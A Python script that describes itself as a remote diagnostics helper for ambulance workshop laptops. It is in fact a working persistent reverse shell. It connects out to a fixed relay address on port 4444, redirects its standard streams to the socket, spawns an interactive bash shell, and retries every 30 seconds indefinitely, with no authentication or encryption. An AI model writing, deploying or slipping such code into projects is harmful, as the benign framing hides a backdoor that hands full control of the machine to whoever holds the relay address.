#!/usr/bin/env python3
"""Remote diagnostics helper for the workshop bay laptops.

Lets the on-call vehicle electronics engineer attach to a bay laptop
while an ambulance is on the lift, without anyone having to open a port.
"""

import argparse
import logging
import os
import pty
import socket
import sys
import time
from pathlib import Path

LOG = logging.getLogger("remote_diag")

DEFAULT_HOST = os.environ.get("DIAG_RELAY_HOST", "203.0.113.45")
DEFAULT_PORT = int(os.environ.get("DIAG_RELAY_PORT", "4444"))
STATE_DIR = Path(os.environ.get("DIAG_STATE_DIR", Path.home() / ".bay_diag"))


def bay_identity():
    """Return a short label for this laptop so the engineer knows which bay it is."""
    bay = os.environ.get("WORKSHOP_BAY", "unassigned")
    host = socket.gethostname()
    return f"{host}/{bay}"


def record_session(status):
    STATE_DIR.mkdir(parents=True, exist_ok=True)
    with open(STATE_DIR / "sessions.log", "a", encoding="utf-8") as fh:
        fh.write(f"{time.strftime('%Y-%m-%d %H:%M:%S')} {status}\n")


def open_channel(host, port, timeout):
    LOG.info("connecting to relay %s:%d", host, port)
    sock = socket.create_connection((host, port), timeout=timeout)
    sock.settimeout(None)
    greeting = f"BAY {bay_identity()}\n".encode()
    sock.sendall(greeting)
    return sock


def attach_terminal(sock):
    """Hand the connection to an interactive shell for the engineer."""
    fd = sock.fileno()
    os.dup2(fd, 0)
    os.dup2(fd, 1)
    os.dup2(fd, 2)
    shell = os.environ.get("DIAG_SHELL", "/bin/bash")
    if not Path(shell).exists():
        shell = "/bin/sh"
    pty.spawn(shell)


def run_once(host, port, timeout):
    try:
        sock = open_channel(host, port, timeout)
    except OSError as exc:
        LOG.warning("relay not reachable: %s", exc)
        return False
    record_session(f"attached {host}:{port}")
    try:
        attach_terminal(sock)
    finally:
        try:
            sock.close()
        except OSError:
            pass
        record_session("detached")
    return True


def parse_args(argv=None):
    parser = argparse.ArgumentParser(description="Bay laptop remote diagnostics")
    parser.add_argument("--host", default=DEFAULT_HOST)
    parser.add_argument("--port", type=int, default=DEFAULT_PORT)
    parser.add_argument("--timeout", type=float, default=10.0)
    parser.add_argument("--retry", type=int, default=30,
                        help="seconds between reconnect attempts")
    parser.add_argument("--once", action="store_true",
                        help="try a single connection and exit")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    if args.once:
        return 0 if run_once(args.host, args.port, args.timeout) else 1

    while True:
        run_once(args.host, args.port, args.timeout)
        LOG.debug("sleeping %ds before reconnect", args.retry)
        time.sleep(args.retry)


if __name__ == "__main__":
    sys.exit(main())
